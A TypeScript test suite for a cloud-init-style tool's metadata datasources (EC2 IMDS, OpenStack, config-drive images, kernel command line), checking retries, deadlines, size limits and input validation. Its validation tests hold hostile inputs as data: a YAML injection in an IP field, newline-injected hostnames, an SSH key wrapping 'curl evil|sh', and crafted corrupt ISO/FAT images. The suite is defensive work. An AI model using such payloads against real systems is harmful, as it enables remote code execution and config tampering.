/** Datasources against loopback stand-ins for EC2's IMDS and OpenStack's metadata service. */
import { execFile, spawnSync } from 'node:child_process';
import { promisify } from 'node:util';
import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import fc from 'fast-check';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { ec2Source } from '../../src/datasource/ec2';
import * as http from 'node:http';
import type { AddressInfo } from 'node:net';
import { backoff, defaultRetryPolicy, FetchError, fetchWithRetry, maxBody, withRetries } from '../../src/datasource/http';
import { postOmaha } from '../../src/update/attempter';
import type { RetryPolicy } from '../../src/datasource/http';
import { configDriveSource, openstackMetadata, openstackSource } from '../../src/datasource/openstack';
import { firstAnswer } from '../../src/datasource/select';
import { cmdlineSource, cmdlineUrl, fileSource, urlSource } from '../../src/datasource/simple';
import { FakeMetadata } from '../support/fake-metadata';

const fast: RetryPolicy = { timeoutMs: 300, attempts: 6, backoffMs: 10, maxBackoffMs: 50, deadlineMs: 5_000 };
const key = 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIBq7E68devjRKAB2lwqxl16pR8Y+7vOt6k2VMYV4L7l6 ec2-key';

const ec2Data = {
  userData: '#cloud-config\nhostname: from-user-data\n',
  metaData: { 'instance-id': 'i-0123456789', hostname: 'ip-10-0-0-5.ec2.internal extra-name', 'local-ipv4': '10.0.0.5', 'public-ipv4': '203.0.113.7', ipv6: '2001:db8::5' },
  keys: { mykey: key },
};

let servers: FakeMetadata[] = [];
async function serve(ec2: ConstructorParameters<typeof FakeMetadata>[0], openstack?: ConstructorParameters<typeof FakeMetadata>[1]) {
  const s = new FakeMetadata(ec2, openstack);
  await s.start();
  servers.push(s);
  return s;
}
afterEach(async () => {
  await Promise.all(servers.map((s) => s.stop()));
  servers = [];
});

describe('EC2', () => {
  test('IMDSv2: a token first, sent with every request; user data and metadata intact', async () => {
    const s = await serve({ ...ec2Data, imds: 'v2' });
    const got = await ec2Source(s.url, fast).fetch();
    expect(got).toEqual({
      source: 'ec2',
      location: `${s.url.replace(/\/?$/, '/')}2009-04-04/user-data`,
      userData: Buffer.from(ec2Data.userData),
      metadata: {
        instanceId: 'i-0123456789',
        hostname: 'ip-10-0-0-5.ec2.internal',
        privateIpv4: '10.0.0.5',
        publicIpv4: '203.0.113.7',
        privateIpv6: '2001:db8::5',
        publicIpv6: '2001:db8::5',
        sshPublicKeys: [key],
      },
    });
    expect(s.requests[0]).toMatchObject({ method: 'PUT', path: 'latest/api/token', ttl: '21600' });
    expect(s.requests.slice(1).every((r) => r.method === 'GET' && r.token === 'token-1')).toBe(true);
  });

  test('an expired token (401) is renewed', async () => {
    const s = await serve({ ...ec2Data, imds: 'v2', tokenUses: 3 });
    const got = await ec2Source(s.url, fast).fetch();
    expect(got?.metadata.sshPublicKeys).toEqual([key]);
    expect(s.requests.filter((r) => r.method === 'PUT').length).toBeGreaterThan(1);
  });

  test('a token that expires by time is renewed', async () => {
    const s = await serve({ ...ec2Data, imds: 'v2', tokenLifetimeMs: 60 });
    // The user-data request stalls past the token's lifetime; its retry carries the expired token.
    s.failOnce.set('2009-04-04/user-data', 'slow');
    const got = await ec2Source(s.url, { ...fast, timeoutMs: 100 }).fetch();
    expect(got?.userData?.toString()).toBe(ec2Data.userData);
    expect(s.requests.map((r) => `${r.method} ${r.path} ${r.status}`).slice(0, 5)).toEqual([
      'PUT latest/api/token 200',
      'GET 2009-04-04/user-data 0',
      'GET 2009-04-04/user-data 401',
      'PUT latest/api/token 200',
      'GET 2009-04-04/user-data 200',
    ]);
  });

  test.each(['v1', 'forbidden'] as const)('IMDSv1 when the token endpoint is %s', async (imds) => {
    const s = await serve({ ...ec2Data, imds });
    const got = await ec2Source(s.url, fast).fetch();
    expect(got?.metadata.privateIpv4).toBe('10.0.0.5');
    expect(s.requests.filter((r) => r.method === 'GET').every((r) => r.token === undefined)).toBe(true);
  });

  test('no user data (404) is not an error', async () => {
    const s = await serve({ metaData: { 'local-ipv4': '10.0.0.9' } });
    expect(await ec2Source(s.url, fast).fetch()).toMatchObject({ userData: undefined, metadata: { privateIpv4: '10.0.0.9' } });
  });

  test.each(['500', 'slow', 'reset', 'truncate'] as const)('retries through %s answers and gets the data intact', async (failure) => {
    const s = await serve({ ...ec2Data, imds: 'v2' });
    s.failures = [failure, failure];
    const got = await ec2Source(s.url, fast).fetch();
    expect(got?.userData?.toString()).toBe(ec2Data.userData);
    expect(got?.metadata.publicIpv4).toBe('203.0.113.7');
  });

  test('a truncated body every time is an error, never short data', async () => {
    const s = await serve({ ...ec2Data, imds: 'v1' });
    s.alwaysFail.set('2009-04-04/user-data', 'truncate');
    await expect(ec2Source(s.url, fast).fetch()).rejects.toThrow(/got \d+ of \d+ bytes|closed before the whole body/);
  });
});

describe('HTTP retries', () => {
  test('stop at the deadline', async () => {
    const s = await serve({ imds: 'v1', userData: 'x' });
    s.alwaysFail.set('2009-04-04/user-data', '500');
    const started = Date.now();
    await expect(fetchWithRetry({ url: `${s.url}2009-04-04/user-data` }, { ...fast, attempts: 1000, deadlineMs: 600 })).rejects.toThrow(/HTTP 500 \(gave up after retrying\)/);
    expect(Date.now() - started).toBeLessThan(3_000); // without the deadline: about 1,000 tries, 25 s
  });

  // CI, loaded: the last try had 1 ms left and its "no complete answer within 1 ms" hid HTTP 500.
  test('a try cut short by the deadline does not hide the failure of the full try before it', async () => {
    const timeouts: number[] = [];
    const tryOnce = async (timeoutMs: number) => {
      timeouts.push(timeoutMs);
      await new Promise((resolve) => setTimeout(resolve, timeoutMs));
      throw new FetchError(timeouts.length === 1 ? 'HTTP 500' : `no answer within ${timeoutMs} ms`, true);
    };
    const policy = { timeoutMs: 100, attempts: 5, backoffMs: 0, maxBackoffMs: 0, deadlineMs: 150 };
    await expect(withRetries('x', policy, tryOnce, (err) => err as FetchError, (last) => new Error(`${last?.message}, gave up`))).rejects.toThrow('HTTP 500, gave up');
    expect(timeouts[0]).toBe(100);
    expect(timeouts.slice(1).every((t) => t < 100)).toBe(true);
  });

  test('stop after the attempts', async () => {
    const s = await serve({ imds: 'v1', userData: 'x' });
    s.alwaysFail.set('2009-04-04/user-data', '500');
    await expect(fetchWithRetry({ url: `${s.url}2009-04-04/user-data` }, { ...fast, attempts: 4 })).rejects.toThrow(/gave up/);
    expect(s.requests.length).toBe(4);
  });

  test('give up at once on a 4xx other than 404', async () => {
    const s = await serve({ imds: 'v1', userData: 'x' });
    s.alwaysFail.set('2009-04-04/user-data', '403');
    await expect(fetchWithRetry({ url: `${s.url}2009-04-04/user-data` }, fast)).rejects.toMatchObject({ status: 403, retryable: false });
    expect(s.requests.length).toBe(1);
  });

  test('an unreachable service is retried until the deadline', async () => {
    await expect(fetchWithRetry({ url: 'http://127.0.0.1:9/' }, { ...fast, deadlineMs: 300 })).rejects.toThrow(/ECONNREFUSED.*gave up/);
  });

  // Issue 12: a 5 s --http-deadline took 122 s against a body sent a byte a second. A 2 s bound
  // (more than the drip's 1 s between bytes, so an idle timeout never fires): 60 s before the fix.
  test('the deadline bounds the whole fetch, a body that drips a byte a second included', async () => {
    const s = await serve({ imds: 'v1', userData: 'x' });
    s.alwaysFail.set('2009-04-04/user-data', 'drip'); // 60 bytes: a minute if waited for
    const started = Date.now();
    await expect(fetchWithRetry({ url: `${s.url}2009-04-04/user-data` }, { ...defaultRetryPolicy, deadlineMs: 2_000 })).rejects.toThrow(/no complete answer within \d+ ms/);
    expect(Date.now() - started).toBeLessThan(10_000);
  });

  test('one request is bounded by its timeout by the clock, not by idleness: Omaha requests too', async () => {
    const s = await serve({ imds: 'v1', userData: 'x' });
    s.alwaysFail.set('2009-04-04/user-data', 'drip'); // (any path that answers 200 drips)
    const started = Date.now();
    await expect(postOmaha(`${s.url}2009-04-04/user-data`, '<request/>', 2_000)).rejects.toThrow(/no complete answer within 2000 ms/);
    expect(Date.now() - started).toBeLessThan(10_000);
  });

  test('coreos-cloudinit --http-deadline bounds a dripping --from-url', async () => {
    const s = await serve({ imds: 'v1', userData: 'x' });
    s.alwaysFail.set('2009-04-04/user-data', 'drip');
    const started = Date.now();
    // (execFile, not spawnSync: the stand-in serves from this process)
    const r = await promisify(execFile)(process.execPath, [join(__dirname, '../../bin/coreos-cloudinit.js'), '--validate', '--from-url', `${s.url}2009-04-04/user-data`, '--http-deadline', '2000']).catch((e: { code: number; stderr: string }) => e);
    expect(r).toMatchObject({ code: 1, stderr: expect.stringMatching(/no complete answer within/) });
    expect(s.requests.length).toBeGreaterThan(0);
    expect(Date.now() - started).toBeLessThan(10_000);
  });

  describe('a body over 16 MiB is refused at once, not retried', () => {
    let server: http.Server;
    let url: string;
    let requests = 0;
    beforeAll(async () => {
      server = http.createServer((req, res) => {
        requests++;
        if (req.url === '/declared') {
          res.writeHead(200, { 'content-length': String(maxBody + 1) });
          res.write('x'); // and then nothing: only the header says how big
          return;
        }
        res.writeHead(200); // chunked, no length: 1 MiB chunks until the client hangs up
        const chunk = Buffer.alloc(1024 * 1024);
        const more = () => {
          while (!res.destroyed && res.write(chunk));
          if (!res.destroyed) res.once('drain', more);
        };
        more();
      });
      await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
      url = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
    });
    afterAll(() => {
      server.closeAllConnections();
      server.close();
    });
    test.each(['declared', 'chunked'])('%s', async (path) => {
      requests = 0;
      await expect(fetchWithRetry({ url: `${url}/${path}` }, defaultRetryPolicy)).rejects.toMatchObject({ retryable: false, message: expect.stringMatching(/16777216/) });
      expect(requests).toBe(1);
    });
  });

  test('backoff doubles up to its cap, with full jitter', () => {
    const top = (n: number) => backoff(n, defaultRetryPolicy, () => 1);
    expect([1, 2, 3, 4, 6, 10].map(top)).toEqual([100, 200, 400, 800, 3200, 5000]);
    expect(backoff(3, defaultRetryPolicy, () => 0)).toBe(0);
  });
});

describe('OpenStack', () => {
  const openstack = {
    metaData: { uuid: 'd8e02d56-2648-49a3-bf97-6be8f1204f38', hostname: 'node-1.novalocal', public_keys: { mykey: key } },
    userData: '#cloud-config\n',
    networkData: { networks: [{ type: 'ipv4', ip_address: '10.1.0.4' }, { type: 'ipv6', ip_address: 'fd00::4' }] },
  };

  test('the metadata service', async () => {
    const s = await serve({}, openstack);
    expect(await openstackSource(s.url, fast).fetch()).toEqual({
      source: 'openstack',
      location: `${s.url.replace(/\/?$/, '/')}openstack/latest/user_data`,
      userData: Buffer.from('#cloud-config\n'),
      metadata: { instanceId: openstack.metaData.uuid, hostname: 'node-1.novalocal', privateIpv4: '10.1.0.4', privateIpv6: 'fd00::4', sshPublicKeys: [key] },
    });
  });

  test('no metadata service here: not this source', async () => {
    const s = await serve({});
    expect(await openstackSource(s.url, fast).fetch()).toBeUndefined();
  });

  test('a config drive directory', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'bootsmith-cd-'));
    mkdirSync(join(dir, 'openstack/latest'), { recursive: true });
    writeFileSync(join(dir, 'openstack/latest/meta_data.json'), JSON.stringify(openstack.metaData));
    writeFileSync(join(dir, 'openstack/latest/user_data'), '#cloud-config\nhostname: cd\n');
    expect(await configDriveSource(dir).fetch()).toMatchObject({ source: 'configdrive', metadata: { instanceId: openstack.metaData.uuid, sshPublicKeys: [key] } });
    expect(await configDriveSource(join(dir, 'nothing')).fetch()).toBeUndefined();
  });

  test('a config drive directory: a file over 16 MiB or a FIFO is refused before it is read', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'bootsmith-cd-'));
    mkdirSync(join(dir, 'openstack/latest'), { recursive: true });
    writeFileSync(join(dir, 'openstack/latest/meta_data.json'), JSON.stringify(openstack.metaData));
    spawnSync('truncate', ['-s', '1G', join(dir, 'openstack/latest/user_data')]);
    await expect(configDriveSource(dir).fetch()).rejects.toThrow(/^openstack config drive: openstack\/latest\/user_data is 1073741824 bytes, more than the 16777216 accepted$/);
    rmSync(join(dir, 'openstack/latest/user_data'));
    expect(spawnSync('mkfifo', [join(dir, 'openstack/latest/user_data')]).status).toBe(0); // no writer: reading it would wait for ever
    await expect(configDriveSource(dir).fetch()).rejects.toThrow(/user_data is not a regular file/);
  });
});

describe('metadata values are parsed into their type, or refused naming the source and field', () => {
  const meta = { uuid: 'u-1', hostname: 'node-1', public_keys: { k: key } };
  const files = (metaData: object, networkData?: object) => ({
    metaData: Buffer.from(JSON.stringify(metaData)),
    userData: undefined,
    networkData: networkData ? Buffer.from(JSON.stringify(networkData)) : undefined,
  });
  const injection = '1.2.3.4"\nwrite_files:\n  - path: /etc/injected\n    content: x\n#';

  test.each([
    ['an address with YAML after it', files(meta, { networks: [{ type: 'ipv6', ip_address: injection }] }), /^openstack config drive: network_data\.json networks\[0\]\.ip_address: not an IP address: "1\.2\.3\.4\\"\\nwrite_files/],
    ['an address with a zone', files(meta, { networks: [{ type: 'ipv4', ip_address: '10.0.0.1' }, { type: 'ipv6', ip_address: 'fe80::1%eth0' }] }), /networks\[1\]\.ip_address: not an IP address/],
    ['an IPv4 address where the type says ipv6', files(meta, { networks: [{ type: 'ipv6', ip_address: '10.0.0.1' }] }), /networks\[0\]\.ip_address: not an IPv6 address/],
    ['an address that is not a string', files(meta, { networks: [{ type: 'ipv4', ip_address: ['10.0.0.1'] }] }), /networks\[0\]\.ip_address: not an IP address/],
    ['a hostname with a newline', files({ ...meta, hostname: 'node\n127.0.0.1 bank' }), /^openstack config drive: meta_data\.json hostname: not a host name \(it holds "\\n"/],
    ['a hostname with a space', files({ ...meta, hostname: 'node 1' }), /meta_data\.json hostname: not a host name/],
    ['an instance id with a newline', files({ ...meta, uuid: 'a\nchanged instance x' }), /meta_data\.json uuid: not an instance id/],
    ['two keys in one value', files({ ...meta, public_keys: { k: `${key}\n${key}` } }), /meta_data\.json public_keys\.k: an SSH key is one line/],
    ['a key that is no key', files({ ...meta, public_keys: { k: 'command="curl evil|sh" nothing' } }), /public_keys\.k: not an SSH public key/],
  ])('config drive: %s', (_name, given, message) => {
    expect(() => openstackMetadata(given, 'configdrive')).toThrow(message);
  });

  test('valid values pass, typed as they were', () => {
    const got = openstackMetadata(files(meta, { networks: [{ type: 'ipv4_dhcp' }, { type: 'ipv4', ip_address: '10.1.0.4' }, { type: 'ipv6', ip_address: '2001:db8::4' }] }), 'openstack');
    expect(got.metadata).toEqual({ instanceId: 'u-1', hostname: 'node-1', privateIpv4: '10.1.0.4', privateIpv6: '2001:db8::4', sshPublicKeys: [key] });
  });

  test.each([
    ['local-ipv4', '10.0.0.5\nwrite_files: []', /^ec2 metadata service: meta-data\/local-ipv4: not an IP address/],
    ['public-ipv4', 'fd00::1', /meta-data\/public-ipv4: not an IPv4 address/],
    ['ipv6', '"fd00::1"', /meta-data\/ipv6: not an IP address/],
    ['hostname', 'host"name', /meta-data\/hostname: not a host name/],
    ['instance-id', 'i-1\u0007', /meta-data\/instance-id: not an instance id/],
  ])('EC2: a hostile %s is refused', async (field, value, message) => {
    const s = await serve({ ...ec2Data, imds: 'v1', metaData: { ...ec2Data.metaData, [field]: value } });
    await expect(ec2Source(s.url, fast).fetch()).rejects.toThrow(message);
  });

  test('EC2: a public key list longer than any machine has is refused, not fetched key by key', async () => {
    const keys = Object.fromEntries(Array.from({ length: 101 }, (_, i) => [`k${i}`, key]));
    const s = await serve({ ...ec2Data, imds: 'v1', keys });
    await expect(ec2Source(s.url, fast).fetch()).rejects.toThrow(/lists 101 keys, more than 100/);
    expect(s.requests.filter((r) => r.path.endsWith('openssh-key'))).toEqual([]);
  });
});

const haveGenisoimage = spawnSync('genisoimage', ['-version']).status === 0;
(haveGenisoimage ? describe : describe.skip)('config drive images, read without mounting', () => {
  const dir = mkdtempSync(join(tmpdir(), 'bootsmith-iso-'));
  const tree = join(dir, 'tree');
  const big = `#cloud-config\nwrite_files:\n${Array.from({ length: 400 }, (_, i) => `  - path: /etc/f${i}\n    content: "${'x'.repeat(20)}"\n`).join('')}`;
  const image = (name: string, args: string[]) => {
    const out = join(dir, name);
    const r = spawnSync('genisoimage', ['-quiet', '-o', out, ...args, tree], { encoding: 'utf8' });
    if (r.status !== 0) throw new Error(r.stderr);
    return out;
  };
  beforeAll(() => {
    mkdirSync(join(tree, 'openstack/latest'), { recursive: true });
    mkdirSync(join(tree, 'openstack/2012-08-10'), { recursive: true });
    for (let i = 0; i < 120; i++) writeFileSync(join(tree, 'openstack/latest', `padding-file-with-a-long-name-${i}.json`), '{}');
    writeFileSync(join(tree, 'openstack/latest/meta_data.json'), JSON.stringify({ uuid: 'cd-uuid', hostname: 'from-drive', public_keys: { k: key } }));
    writeFileSync(join(tree, 'openstack/latest/user_data'), big);
  });

  test.each([
    ['as Nova makes it (Rock Ridge and Joliet)', ['-J', '-r', '-l', '-allow-lowercase', '-allow-multidot', '-V', 'config-2']],
    ['Joliet only', ['-J', '-V', 'config-2']],
    ['Rock Ridge only, upper-case label', ['-r', '-V', 'CONFIG-2']],
  ])('%s', async (_name, args) => {
    const got = await configDriveSource(image(`${args.join('')}.iso`, args)).fetch();
    expect(got?.userData?.toString()).toBe(big);
    expect(got?.metadata).toEqual({ instanceId: 'cd-uuid', hostname: 'from-drive', sshPublicKeys: [key] });
  });

  const haveVfatTools = spawnSync('mkfs.vfat', ['--help']).status !== null && spawnSync('mcopy', ['-V']).status === 0;
  (haveVfatTools ? test.each : test.skip.each)([
    ['FAT12', ['-F', '12'], 2048],
    ['FAT16', ['-F', '16'], 20480],
    ['FAT32', ['-F', '32'], 65536],
  ])('vfat, %s', async (_fat, args, kib) => {
    const img = join(dir, `drive-${args[1]}.img`);
    spawnSync('truncate', ['-s', `${kib}K`, img]);
    const mk = spawnSync('mkfs.vfat', [...args, '-n', 'config-2', img], { encoding: 'utf8' });
    expect(mk.status).toBe(0);
    const copy = spawnSync('mcopy', ['-s', '-i', img, join(tree, 'openstack'), '::/'], { encoding: 'utf8' });
    expect(copy.stderr).toBe('');
    const got = await configDriveSource(img).fetch();
    expect(got?.userData?.toString()).toBe(big);
    expect(got?.metadata.instanceId).toBe('cd-uuid');
  });

  test('corrupt images give data or a clear error, never a crash or a hang', async () => {
    const images = [image('fuzz.iso', ['-J', '-r', '-V', 'config-2'])];
    if (haveVfatTools) {
      const img = join(dir, 'fuzz.img');
      spawnSync('truncate', ['-s', '2048K', img]);
      spawnSync('mkfs.vfat', ['-F', '12', '-n', 'config-2', img]);
      spawnSync('mcopy', ['-s', '-i', img, join(tree, 'openstack'), '::/']);
      images.push(img);
    }
    for (const source of images) {
      const original = readFileSync(source);
      const started = Date.now();
      await fc.assert(
        fc.asyncProperty(fc.array(fc.tuple(fc.nat({ max: 200 * 1024 }), fc.integer({ min: 0, max: 255 })), { minLength: 1, maxLength: 40 }), async (edits) => {
          const bytes = Buffer.from(original);
          // Edits fall in the first 200 KiB: descriptors, directories, the FAT and the boot sector live there.
          for (const [at, value] of edits) bytes[at % bytes.length] = value;
          const file = join(dir, 'mutated');
          writeFileSync(file, bytes);
          try {
            await configDriveSource(file).fetch();
          } catch (err) {
            expect(err).toBeInstanceOf(Error);
            // Our messages: the image's (ImageError), the label, the JSON files' or their values'; never a RangeError's.
            expect((err as Error).message).toMatch(/^(config drive image: |\S+ is labelled |meta_data\.json |network_data\.json |openstack config drive: )/);
          }
        }),
        { numRuns: 300 },
      );
      expect(Date.now() - started).toBeLessThan(30_000);
    }
  });

  // Issue 12: a crafted directory extent took 30 s; corrupt records gave raw RangeError text.
  describe('crafted images cost milliseconds and give our message', () => {
    const pvd = 16 * 2048;
    /** The records of the directory at `offset`: where each is, its name, extent and size. */
    const records = (img: Buffer, offset: number) => {
      const out: Array<{ at: number; name: string; extent: number; size: number }> = [];
      for (let at = offset; img[at]! > 0; at += img[at]!) {
        out.push({ at, name: img.toString('latin1', at + 33, at + 33 + img[at + 32]!), extent: img.readUInt32LE(at + 2), size: img.readUInt32LE(at + 10) });
      }
      return out;
    };
    /** A Rock Ridge image (no Joliet tree to fall back to), patched by `patch`, written to a file. */
    const crafted = (name: string, patch: (img: Buffer, root: { extent: number; size: number }) => Buffer, args = ['-r', '-V', 'config-2']) => {
      const img = readFileSync(image(`${name}-base.iso`, args));
      const root = { extent: img.readUInt32LE(pvd + 156 + 2), size: img.readUInt32LE(pvd + 156 + 10) };
      const file = join(dir, `${name}.iso`);
      writeFileSync(file, patch(img, root));
      return file;
    };
    const timed = async (file: string) => {
      const started = Date.now();
      const outcome: { ok?: unknown; error?: string } = await configDriveSource(file).fetch().then(
        (v) => ({ ok: v }),
        (err: Error) => ({ error: err.message }),
      );
      return { ...outcome, ms: Date.now() - started };
    };

    test('a 40 MiB root directory of one-byte records is refused at once', async () => {
      const file = crafted('huge-dir', (img) => {
        const extra = 40 * 1024 * 1024;
        const at = img.length / 2048;
        const out = Buffer.concat([img, Buffer.alloc(extra, 1)]);
        out.writeUInt32LE(out.length / 2048, pvd + 80); // the volume covers the extra bytes
        out.writeUInt32LE(at, pvd + 156 + 2);
        out.writeUInt32LE(extra, pvd + 156 + 10);
        return out;
      });
      const got = await timed(file);
      expect(got.error).toMatch(/^config drive image: directory record at offset \d+: length 1 does not hold|^config drive image: the directory at offset \d+ is 41943040 bytes, more than/);
      expect(got.ms).toBeLessThan(5_000); // before: 30 s and more; a loaded machine needs the margin
    });

    test('a record pointing outside the image', async () => {
      const file = crafted('outside', (img, root) => {
        const entry = records(img, root.extent * 2048).find((r) => r.name.startsWith('OPENSTAC'))!;
        img.writeUInt32LE(0x00ffffff, entry.at + 2);
        return img;
      });
      expect(await timed(file)).toMatchObject({ error: expect.stringMatching(/^config drive image: directory record at offset \d+: extent beyond the image/) });
    });

    test('a directory whose extent is larger than the image', async () => {
      const file = crafted('long-extent', (img, root) => {
        const entry = records(img, root.extent * 2048).find((r) => r.name.startsWith('OPENSTAC'))!;
        img.writeUInt32LE(0xfffff800, entry.at + 10);
        return img;
      });
      expect(await timed(file)).toMatchObject({ error: expect.stringMatching(/^config drive image: directory record at offset \d+: extent beyond the image/) });
    });

    test('a directory that points back at the root (a loop) is walked once per path component', async () => {
      const file = crafted('loop', (img, root) => {
        const entry = records(img, root.extent * 2048).find((r) => r.name.startsWith('OPENSTAC'))!;
        img.writeUInt32LE(root.extent, entry.at + 2);
        img.writeUInt32LE(root.size, entry.at + 10);
        return img;
      });
      const got = await timed(file);
      expect(got).toMatchObject({ ok: undefined });
      expect(got.ms).toBeLessThan(5_000); // before: 30 s and more; a loaded machine needs the margin
    });

    test('a record too short for its name, and a Joliet name of odd length: our message, not a RangeError', async () => {
      const short = crafted('short', (img, root) => {
        const entry = records(img, root.extent * 2048).find((r) => r.name.startsWith('OPENSTAC'))!;
        img[entry.at + 32] = 200; // a 200-byte name in a record of under 255 bytes
        return img;
      });
      expect(await timed(short)).toMatchObject({ error: expect.stringMatching(/^config drive image: directory record at offset \d+: length \d+ does not hold its 200-byte name/) });
      const odd = crafted('odd-joliet', (img) => {
        // The Joliet root's first entry after . and ..: make its name length odd.
        let svd = pvd + 2048;
        while (img[svd] !== 2) svd += 2048;
        const rootExtent = img.readUInt32LE(svd + 156 + 2);
        const entry = records(img, rootExtent * 2048)[2]!;
        img[entry.at + 32] = img[entry.at + 32]! - 1;
        return img;
      }, ['-J', '-V', 'config-2']);
      const got = await timed(odd);
      expect(got.error).toMatch(/^config drive image: directory record at offset \d+: a Joliet name of an odd length/);
      expect(got.error).not.toMatch(/RangeError|ERR_|16-bits/);
    });
  });

  (spawnSync('mkfs.vfat', ['--help']).status !== null ? test : test.skip)('FAT: a cluster beyond the image, and a directory chain that loops: our message, at once', async () => {
    const base = join(dir, 'crafted-fat.img');
    spawnSync('truncate', ['-s', '2048K', base]);
    spawnSync('mkfs.vfat', ['-F', '12', '-n', 'config-2', base]);
    spawnSync('mcopy', ['-s', '-i', base, join(tree, 'openstack'), '::/']);
    const img = readFileSync(base);
    // FAT12 geometry from the boot sector: the root directory follows the FATs.
    const bps = img.readUInt16LE(11);
    const rootAt = (img.readUInt16LE(14) + img[16]! * img.readUInt16LE(22)) * bps;
    let entry = rootAt;
    while (!img.toString('latin1', entry, entry + 8).startsWith('OPENST') || img[entry + 11] !== 0x10) {
      entry += 32;
      if (entry > rootAt + 16 * 32) throw new Error('no openstack directory in the root');
    }
    const cluster = img.readUInt16LE(entry + 26);
    const patched = (name: string, patch: (b: Buffer) => void) => {
      const b = Buffer.from(img);
      patch(b);
      writeFileSync(join(dir, name), b);
      return join(dir, name);
    };
    const beyond = patched('fat-beyond.img', (b) => b.writeUInt16LE(0xff0, entry + 26));
    await expect(configDriveSource(beyond).fetch()).rejects.toThrow(/^config drive image: cluster 4080 is beyond the last cluster/);
    // The directory's cluster chain points back at itself in the FAT (12-bit entries).
    const loop = patched('fat-loop.img', (b) => {
      const fat = img.readUInt16LE(14) * bps;
      const at = fat + Math.floor(cluster * 1.5);
      const pair = b.readUInt16LE(at);
      b.writeUInt16LE(cluster % 2 === 0 ? (pair & 0xf000) | cluster : (pair & 0x000f) | (cluster << 4), at);
    });
    const started = Date.now();
    await expect(configDriveSource(loop).fetch()).rejects.toThrow(/^config drive image: the FAT has a loop in a cluster chain/);
    expect(Date.now() - started).toBeLessThan(5_000);
  });

  test('an image with another label is not a config drive', async () => {
    await expect(configDriveSource(image('other.iso', ['-r', '-V', 'data'])).fetch()).rejects.toThrow(/labelled "data", not config-2/);
  });

  test('a file that is not an ISO image is an error', async () => {
    writeFileSync(join(dir, 'junk.img'), Buffer.alloc(64 * 1024, 7));
    await expect(configDriveSource(join(dir, 'junk.img')).fetch()).rejects.toThrow(/not an ISO 9660 image/);
  });
});

describe('kernel command line, files, URLs, and choosing', () => {
  test.each([
    ['console=ttyS0 cloud-config-url=http://a/x.yml quiet', 'http://a/x.yml'],
    ['cloud_config_url=http://a/1 cloud-config-url=http://a/2', 'http://a/2'],
    ['cloud-config-url= cloud-config-url', undefined],
    ['root=/dev/sda1 cloud-config-url=http://a/?x=1=2', 'http://a/?x=1=2'],
  ])('%s', (cmdline, url) => {
    expect(cmdlineUrl(cmdline)).toBe(url);
  });

  test('PXE: the command line names a URL, which is fetched', async () => {
    const s = await serve({ imds: 'v1', userData: '#cloud-config\nhostname: pxe\n' });
    const file = join(mkdtempSync(join(tmpdir(), 'bootsmith-cmdline-')), 'cmdline');
    writeFileSync(file, `BOOT_IMAGE=/vmlinuz cloud-config-url=${s.url}2009-04-04/user-data\n`);
    expect((await cmdlineSource(file, fast).fetch())?.userData?.toString()).toBe('#cloud-config\nhostname: pxe\n');
  });

  test('an empty file and a 404 URL are no user data; a missing file is no source', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'bootsmith-src-'));
    writeFileSync(join(dir, 'empty'), '');
    expect(await fileSource(join(dir, 'empty')).fetch()).toMatchObject({ userData: undefined });
    expect(await fileSource(join(dir, 'missing')).fetch()).toBeUndefined();
    const s = await serve({ imds: 'v1' });
    expect(await urlSource(`${s.url}nothing`, fast).fetch()).toMatchObject({ userData: undefined });
  });

  test('with several sources, the first that answers wins', async () => {
    const slow = await serve({ ...ec2Data, imds: 'v1' });
    slow.failures = ['slow'];
    const quick = await serve({}, { metaData: { uuid: 'os' }, userData: '#cloud-config\n' });
    const got = await firstAnswer([ec2Source(slow.url, { ...fast, timeoutMs: 2_000 }), openstackSource(quick.url, fast)]);
    expect(got.source).toBe('openstack');
  });

  test('when none answers, the error says what each one said', async () => {
    await expect(firstAnswer([fileSource('/nonexistent/x'), urlSource('http://127.0.0.1:9/', { ...fast, deadlineMs: 200 })])).rejects.toThrow(
      /^no datasource answered \(\/nonexistent\/x: not there; http:\/\/127\.0\.0\.1:9\/: .*ECONNREFUSED/,
    );
  });
});
